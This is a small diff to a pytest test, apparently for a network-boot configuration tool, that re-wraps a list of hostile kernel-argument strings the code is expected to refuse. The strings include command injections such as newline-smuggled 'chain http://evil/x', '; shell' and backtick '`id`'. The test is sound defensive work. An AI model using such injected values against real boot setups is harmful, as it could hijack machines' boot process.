@@ -54,7 +54,8 @@ def test_no_gateway_and_no_dns_are_no_words(node: Node, settings: Settings) -> N
 
 @pytest.mark.parametrize("hostile", [
     "quiet\nchain http://evil/x", "quiet\rreboot", "a ${token}", "a${net0/mac}", "x || shell", "x && shell", "x ; shell", "# x",
-    "a#b", "a\tb", "a\x00b", "a\x7fb", "a\u2028b", "ä", "a\\", "\"a b\"", "'a'", "a<b", "a>b", "`id`", "{{ 7 }}", "a\x0bb", "a\xa0b",
+    "a#b", "a\tb", "a\x00b", "a\x7fb", "a\u2028b", "ä", "a\\", "\"a b\"", "'a'", "a<b", "a>b", "`id`", "{{ 7 }}",
+    "a\x0bb", "a\xa0b",
 ])
 def test_kernel_args_that_mean_more_than_words_are_refused(node: Node, settings: Settings, hostile: str) -> None:
     with pytest.raises(InputError, match="kernel_args"):
